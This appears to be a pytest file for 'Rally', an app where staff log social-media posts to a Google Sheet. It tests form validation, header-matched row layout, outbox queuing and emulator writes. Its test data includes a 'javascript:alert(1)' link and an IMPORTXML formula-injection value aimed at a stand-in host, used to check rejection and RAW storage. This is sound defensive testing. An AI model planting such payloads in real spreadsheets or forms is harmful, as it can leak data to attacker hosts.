"""Log a post: the form's rules, the row written under the Sheet's own header, and the form against the emulator.

The end-to-end tests run the real page under AppTest on a Google Sheet in the emulator;
they flush the app's own outbox instead of waiting for its background writer.
"""

from __future__ import annotations

from datetime import date

import pytest

from data_sources import server
from data_sources.config import load_config
from rally.core.contract import POSTS
from rally.core.records import QueuedRow, TabUnusable, write_plan
from rally.demo.company import demo_tabs
from rally.sheet.dataset import build_dataset
from rally.staff.posting import NewPost, already_logged, post_problems
from tests.apptest import app, clear_caches, texts
from tests.sources import SHEET_KEY, demo_store, google_source

TODAY = date(2026, 11, 18)
SHEET = {
    "Posts": [
        ["Date", "Name", "Platform", "Link"],
        ["2026-11-16", "Maya Patel", "LinkedIn", "https://www.linkedin.com/posts/maya-1"],
        ["2026-11-17", "Fatima Al-Sayed", "X", "https://x.com/fatima/status/1"],
    ],
    "Staff": [
        ["Name", "Team", "Leaderboard"],
        ["Maya Patel", "Sales", "show"],
        ["Fatima Al-Sayed", "Engineering", "anonymous"],
        ["Leo Martin", "Marketing", "show"],
    ],
}
GOOD = NewPost("Leo Martin", "LinkedIn", "https://www.linkedin.com/posts/leo-1", "Our new office", TODAY)


def problems_for(post: NewPost, queued: tuple[QueuedRow, ...] = ()) -> list[str]:
    data = build_dataset(SHEET, queued={"Posts": queued})
    return post_problems(post, data.posts, data.staff, TODAY)


# fmt: off
@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({}, []),
        ({"name": "  "}, ["Pick your name from the list, or type it."]),
        ({"platform": ""}, ["Pick the platform you posted on."]),
        ({"link": ""}, ["Paste the link to your post (copy it from the post's Share menu)."]),
        ({"link": "javascript:alert(1)"}, ["The link must start with http:// or https:// — copy it from the post's Share menu."]),
        ({"link": "www.linkedin.com/posts/leo-1"}, ["The link must start with http:// or https:// — copy it from the post's Share menu."]),  # no scheme: not clickable, so not accepted
        ({"link": "https://WWW.LinkedIn.com/posts/maya-1/"}, ["That link is already logged on 2026-11-16 by Maya Patel."]),  # host case and a trailing slash don't make a new post
        ({"link": "https://x.com/fatima/status/1"}, ["That link is already logged on 2026-11-17 by Anonymous."]),  # the anonymous board's name here too
        ({"link": "https://www.linkedin.com/posts/MAYA-1"}, []),  # paths are case-sensitive (YouTube IDs): another post
        ({"day": date(2026, 11, 19)}, ["The date can't be in the future."]),
        ({"summary": "x" * 201}, ["Keep the summary to one line (200 characters)."]),
        ({"metrics": {"Reach": -5}}, ["Numbers can't be negative."]),
        ({"name": "L" * 81}, ["Keep your name to 80 characters."]),  # the form stops at 80; a hand-made request is refused too
        ({"platform": "P" * 41}, ["Keep the platform's name to 40 characters."]),
        ({"link": "https://www.linkedin.com/posts/" + "x" * 2000}, ["That link is over 2,000 characters: copy the post's own link from its Share menu."]),
    ],
)
# fmt: on
def test_the_form_says_what_to_fix(changes, expected):
    """Each rule of the form, as the sentence a person reads."""
    post = NewPost(**{**GOOD.__dict__, **changes})
    assert problems_for(post) == expected


def test_a_link_still_on_its_way_to_the_sheet_is_refused_too():
    """A post queued on this server counts as logged: the second person is told when and by whom."""
    queued = (QueuedRow({"ID": "id-1", "Date": "2026-11-18", "Name": "Leo Martin", "Platform": "X", "Link": "https://x.com/leo/1"}),)
    assert problems_for(NewPost("Maya Patel", "X", "https://x.com/leo/1", "", TODAY), queued) == ["That link is already logged on 2026-11-18 by Leo Martin."]


def test_no_link_is_never_already_logged():
    """A blank link matches nothing (the Sheet has posts without links)."""
    data = build_dataset({"Posts": [["Date", "Name", "Platform", "Link"], ["2026-11-16", "Maya", "X", ""]]})
    assert already_logged(data.posts, data.staff, "") is None


CELLS = {"Date": "2026-11-18", "Name": "Leo Martin", "Platform": "X", "Link": "https://x.com/leo/1", "Summary": "Hello"}


# fmt: off
@pytest.mark.parametrize(
    ("tabs", "tab", "header", "row", "id_column", "header_row", "add"),
    [
        # No Posts tab: the source creates it with the contract's header.
        (
            {},
            "Posts",
            ["Date", "Name", "Platform", "Team", "Link", "Summary", "Reach", "Reactions", "Comments", "Shares", "Clicks", "ID"],
            CELLS,
            "ID",
            1,
            [],
        ),
        # The company's own spelling and order; Summary and the ID are added after the last column.
        (
            {"posts": [["Posted on", "Who", "URL", "Channel"]]},
            "posts",
            ["Posted on", "Who", "URL", "Channel", "Summary", "ID"],
            {"Posted on": "2026-11-18", "Who": "Leo Martin", "Channel": "X", "URL": "https://x.com/leo/1", "Summary": "Hello"},
            "ID",
            1,
            ["Summary", "ID"],
        ),
        # A title row above the header, a blank column and a column Rally doesn't know: both stay blank.
        (
            {"Posts": [["Our posts"], ["Date", "", "Name", "Mood", "Platform", "Link", "Summary", "id"]]},
            "Posts",
            ["Date", "(column 2)", "Name", "(column 4)", "Platform", "Link", "Summary", "id"],
            {"Date": "2026-11-18", "Name": "Leo Martin", "Platform": "X", "Link": "https://x.com/leo/1", "Summary": "Hello"},
            "id",
            2,
            [],
        ),
        # A column named twice: the first one gets the value, the repeat stays blank.
        (
            {"Posts": [["Date", "Name", "Platform", "Link", "Summary", "ID", "Link"]]},
            "Posts",
            ["Date", "Name", "Platform", "Link", "Summary", "ID", "(column 7)"],
            CELLS,
            "ID",
            1,
            [],
        ),
    ],
)
# fmt: on
def test_a_logged_post_is_laid_out_under_the_sheets_own_header(tabs, tab, header, row, id_column, header_row, add):
    """Cell for cell under the tab's header as it is; what the tab lacks is named at its end."""
    plan = write_plan(tabs, POSTS, CELLS)
    assert (plan.tab, plan.header, plan.row, plan.id_column, plan.header_row, plan.add_columns) == (tab, header, row, id_column, header_row, add)


def test_a_posts_tab_without_a_header_row_is_not_written_blindly():
    """No Date/Name/Platform header in the first rows: the form says to fix the tab instead of guessing columns."""
    with pytest.raises(TabUnusable, match="no header row with Date, Name, Platform"):
        write_plan({"Posts": [["a", "b"], ["1", "2"]]}, POSTS, CELLS)


# -- queued posts count at once, each once ------------------------------------------------------------
POSTS_WITH_ID = [["Date", "Name", "Platform", "Link", "ID"], ["2026-11-16", "Maya", "X", "https://x.com/maya/1", "id-1"]]


# fmt: off
@pytest.mark.parametrize(
    ("sheet", "queued", "links", "pending"),
    [
        (POSTS_WITH_ID, [QueuedRow({"ID": "id-2", "Date": "2026-11-18", "Name": "Leo", "Platform": "X", "Link": "https://x.com/leo/1"})], ["https://x.com/maya/1", "https://x.com/leo/1"], [False, True]),
        # Confirmed after the last read: counted, not marked pending.
        (POSTS_WITH_ID, [QueuedRow({"ID": "id-2", "Date": "2026-11-18", "Name": "Leo", "Platform": "X", "Link": "https://x.com/leo/1"}, pending=False)], ["https://x.com/maya/1", "https://x.com/leo/1"], [False, False]),
        # The read already brought it (same ID): once.
        (POSTS_WITH_ID, [QueuedRow({"ID": "id-1", "Date": "2026-11-16", "Name": "Maya", "Platform": "X", "Link": "https://x.com/maya/1"}, pending=False)], ["https://x.com/maya/1"], [False]),
        # A Sheet without an ID column: the link says it has landed.
        (
            [["Date", "Name", "Platform", "Link"], ["2026-11-16", "Maya", "X", "https://x.com/maya/1"]],
            [QueuedRow({"ID": "id-1", "Date": "2026-11-16", "Name": "Maya", "Platform": "X", "Link": "https://x.com/maya/1"})],
            ["https://x.com/maya/1"],
            [False],
        ),
        # Keys spelt as the Sheet spells its header ("Who", "URL") are matched like the header is.
        ([["Posted on", "Who", "Channel", "URL", "ID"]], [QueuedRow({"ID": "id-9", "Posted on": "2026-11-18", "Who": "Leo", "Channel": "X", "URL": "https://x.com/leo/1"})], ["https://x.com/leo/1"], [True]),
    ],
)
# fmt: on
def test_posts_logged_here_count_at_once_and_once(sheet, queued, links, pending):
    """build_dataset joins this server's queued posts to the read: each ID and each link once, pending marked."""
    posts = build_dataset({"Posts": sheet}, queued={"Posts": queued}).posts
    assert posts["link"].tolist() == links
    assert posts["pending"].tolist() == pending


def test_a_post_written_twice_by_a_retry_counts_once_and_is_reported():
    """The same ID on two rows (an append that landed, then was retried): counted once, the repeat on Data health."""
    data = build_dataset({"Posts": [*POSTS_WITH_ID, ["2026-11-16", "Maya", "X", "https://x.com/maya/1", "id-1"]]})
    assert len(data.posts) == 1
    [issue] = [i for i in data.issues if i.column == "ID"]
    assert (issue.row, issue.problem) == (3, "same ID as row 2: Rally wrote this post twice — counted once, this row may be deleted")


# -- the header gains the columns a logged post needs ---------------------------------------------------
def test_the_google_source_names_missing_columns_after_the_last_header_cell(sheets_emulator, tmp_path):
    """ID goes after the header's last cell, on the header's own row, RAW; a second call adds nothing."""
    source = google_source(sheets_emulator, tmp_path, {"Posts": [["Our posts"], ["Date", "Name", "Platform"], ["2026-11-16", "Maya", "X", "", "note"]]})
    assert source.ensure_columns("posts", 2, ["Summary", "ID"]) == ["Summary", "ID"]
    assert source.ensure_columns("Posts", 2, ["ID"]) == []
    assert sheets_emulator.values(SHEET_KEY, "Posts")[:3] == [["Our posts"], ["Date", "Name", "Platform", "Summary", "ID"], ["2026-11-16", "Maya", "X", "", "note"]]
    assert {r.value_input_option for r in sheets_emulator.requests("update")} == {"RAW"}


def test_the_demo_store_keeps_an_added_column_when_it_reseeds(tmp_path):
    """The demo's Posts tab gains ID once; the next day's reseed keeps it, so logged posts keep their IDs."""
    demo_store(tmp_path, date(2026, 11, 16)).ensure_columns("Posts", 1, ["ID"])
    store = demo_store(tmp_path, date(2026, 11, 17))
    store.append_rows("Posts", [["2026-11-17", "Leo Martin", "", "X", "https://x.com/leo/9", "", "", "", "", "", "", "id-9"]], [])
    posts = store.fetch().tabs["Posts"]
    assert posts[0][-1] == "ID" and posts[-1][-1] == "id-9"


# -- the form against a Google Sheet in the emulator -----------------------------------------------------
SECRETS = {"connections": {"gsheets": {"spreadsheet": f"https://docs.google.com/spreadsheets/d/{SHEET_KEY}/edit", "client_email": "rally@acme.iam.gserviceaccount.com"}}, "rally": {"sheet_read_attempts": 1}}


@pytest.fixture
def sheet_app(sheets_emulator, tmp_path, monkeypatch):
    """The app on the demo company's Sheet in the emulator (Posts without an ID column), with a private outbox."""
    sheets_emulator.add_spreadsheet(SHEET_KEY, tabs=demo_tabs(date.today()))
    monkeypatch.setenv("SHEETS_EMULATOR_HOST", sheets_emulator.host)
    monkeypatch.setenv("RALLY_DATA_DIR", str(tmp_path))
    clear_caches()
    yield sheets_emulator
    clear_caches()


def app_server():
    """The running app's own Server (the same process-wide one the page used)."""
    return server.for_config(load_config(SECRETS))


def app_outbox():
    """The running app's own outbox (the same process-wide singleton the page used)."""
    return app_server().outbox()


def log_post(at, link: str, summary: str = "", name: str = "Maya Patel", reach: int | None = None):
    generation = at.session_state["rally_log_post_form"] if "rally_log_post_form" in at.session_state else 0
    at.selectbox(key=f"log-name-{generation}").set_value(name)
    at.text_input(key=f"log-link-{generation}").set_value(link)
    at.text_input(key=f"log-summary-{generation}").set_value(summary)
    if reach is not None:
        at.number_input(key=f"log-Reach-{generation}").set_value(reach)
    at.button(key=f"FormSubmitter:log-post-{generation}-Log my post").click().run()
    return at


def sheet_rows(emulator) -> list[list]:
    return emulator.values(SHEET_KEY, "Posts")


def test_a_logged_post_lands_raw_under_the_header_with_an_id(sheet_app):
    """Formula-looking text stays text (RAW append), the header gains ID, and the post counts once after the next read."""
    before = len(sheet_rows(sheet_app))
    at = log_post(app("views/log_post.py", secrets=SECRETS), "https://www.linkedin.com/posts/maya-new-1", '=IMPORTXML("http://evil.example", "//a")', reach=1234)
    assert not at.exception and not at.error
    assert "Logged — thank you, Maya Patel!" in texts(at)
    app_outbox().flush()

    rows = sheet_rows(sheet_app)
    header, last = rows[0], rows[-1]
    assert len(rows) == before + 1
    assert header[-1] == "ID"
    cells = dict(zip(header, last))
    assert cells["Summary"] == '=IMPORTXML("http://evil.example", "//a")' and cells["Link"] == "https://www.linkedin.com/posts/maya-new-1"
    assert (cells["Name"], cells["Platform"], cells["Reach"], cells["Date"]) == ("Maya Patel", "LinkedIn", "1234", date.today().isoformat())
    assert len(cells["ID"]) == 36
    assert [r.value_input_option for r in sheet_app.requests("append")] == ["RAW"]
    assert [r.body["values"] for r in sheet_app.requests("append")] == [[last]]

    # Written, but the shared read is older than the write: the post still shows (once), no longer pending
    # (once the server has built the version that knows it was confirmed).
    app_server().settle()
    at.run()
    assert texts(at).count('=IMPORTXML("http://evil.example", "//a")') == 1
    assert "on its way to the Sheet" not in texts(at)
    at.sidebar.button[0].click().run()  # Refresh now: the read brings the row back, and it is still there once
    assert texts(at).count('=IMPORTXML("http://evil.example", "//a")') == 1


def test_a_link_already_in_the_sheet_is_refused_with_when_and_by_whom(sheet_app):
    """A post the Sheet already has (spelt with a trailing slash) is refused, and nothing is written."""
    posts = build_dataset(demo_tabs(date.today())).posts
    known = posts[posts["name"] == "Leo Martin"].iloc[-1]
    at = log_post(app("views/log_post.py", secrets=SECRETS), known["link"] + "/")
    assert [e.value for e in at.error] == [f"- That link is already logged on {known['date']:%Y\\-%m\\-%d} by Leo Martin\\."]
    assert sheet_app.count("append") == 0 and app_outbox().pending() == []


def test_the_second_logging_of_a_link_is_refused_while_the_first_is_still_queued(sheet_app):
    """With the Sheet refusing writes, the first post waits in the outbox; the same link again is still refused."""
    sheet_app.fault_rate(1.0, status=503, kind="append")
    at = log_post(app("views/log_post.py", secrets=SECRETS), "https://x.com/maya/status/42", "Our new office")
    at = log_post(at, "https://x.com/maya/status/42", "Again", name="Leo Martin")
    assert any("already logged on" in e.value and "by Maya Patel" in e.value for e in at.error)
    assert len(app_outbox().pending("Posts")) == 1


def test_a_failing_sheet_keeps_the_post_queued_and_shows_it_as_pending(sheet_app):
    """503 on every append: the post stays in the outbox, counts on the pages, and is marked as on its way."""
    sheet_app.fault_rate(1.0, status=503, kind="append")
    at = log_post(app("views/log_post.py", secrets=SECRETS), "https://www.linkedin.com/posts/maya-queued", "Queued while Sheets is down")
    app_outbox().flush()

    [waiting] = app_outbox().pending("Posts")
    assert waiting.attempts >= 1 and "503" in (waiting.error or "")
    assert all("maya-queued" not in str(row) for row in sheet_rows(sheet_app))
    shown = texts(at.run())
    assert "Queued while Sheets is down" in shown and "⏳ on its way to the Sheet" in shown

    progress = app("views/my_progress.py", secrets=SECRETS)
    progress.selectbox(key="progress-name").set_value("Maya Patel").run()
    assert "Queued while Sheets is down" in texts(progress)


def test_the_outbox_lists_rows_a_read_may_not_show_yet(sheets_emulator, tmp_path):
    """Still queued, or confirmed after the read began: those join the read; rows confirmed before it don't."""
    from data_sources.outbox import Outbox
    from tests.emulator.sheets_emulator import FakeClock

    clock = FakeClock(1000.0)
    box = Outbox(tmp_path / "outbox.sqlite", google_source(sheets_emulator, tmp_path, {"Kudos": [["ID", "To", "Message"]]}), clock=clock)
    box.submit("Kudos", ["ID", "To", "Message"], {"To": "Maya", "Message": "old"})
    box.flush()  # confirmed at 1000
    clock.advance(100)
    box.submit("Kudos", ["ID", "To", "Message"], {"To": "Maya", "Message": "sent after the read"})
    box.flush()  # confirmed at 1100
    box.submit("Kudos", ["ID", "To", "Message"], {"To": "Maya", "Message": "queued"})
    rows = box.pending(sent_since=1090.0)
    assert [(r.row["Message"], r.sent is None) for r in rows] == [("sent after the read", False), ("queued", True)]
    assert [r.row["Message"] for r in box.pending(sent_since=1000.0)] == ["old", "sent after the read", "queued"]
